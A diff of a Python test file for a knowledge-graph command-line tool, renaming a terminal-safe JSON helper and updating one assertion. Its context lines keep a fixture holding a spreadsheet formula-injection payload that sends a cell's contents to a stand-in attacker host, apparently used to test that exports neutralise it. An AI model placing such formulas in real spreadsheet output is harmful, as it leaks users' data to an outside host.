@@ -15,7 +15,7 @@ from typer.testing import CliRunner
 from extractors.records import ArticleRecord, Mention, Person, Quote
 from kg.build import build_graph
 from kg.cli import app
-from kg.cli._terminal import _JSON_UNSAFE, json_for_terminal
+from kg.cli._terminal import _JSON_UNSAFE, json_parts_for_terminal
 from kg.readwrite import read_graphml, write_gexf, write_graphml, write_json, write_statements
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -104,7 +104,7 @@ _JSON_VALUES = st.recursive(
 @example({"roles": [{"former": False, "organisation": None, "n": 1}], "articles": ["a1", "a2"], "empty": []})
 def test_query_json_is_json_dumps_with_what_a_terminal_acts_on_escaped(value):
     expected = _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", json.dumps(value, indent=2, ensure_ascii=False))
-    assert json_for_terminal(value) == expected
+    assert "".join(json_parts_for_terminal(value)) == expected
 
 
 @pytest.mark.parametrize(("name", "content", "message"), [
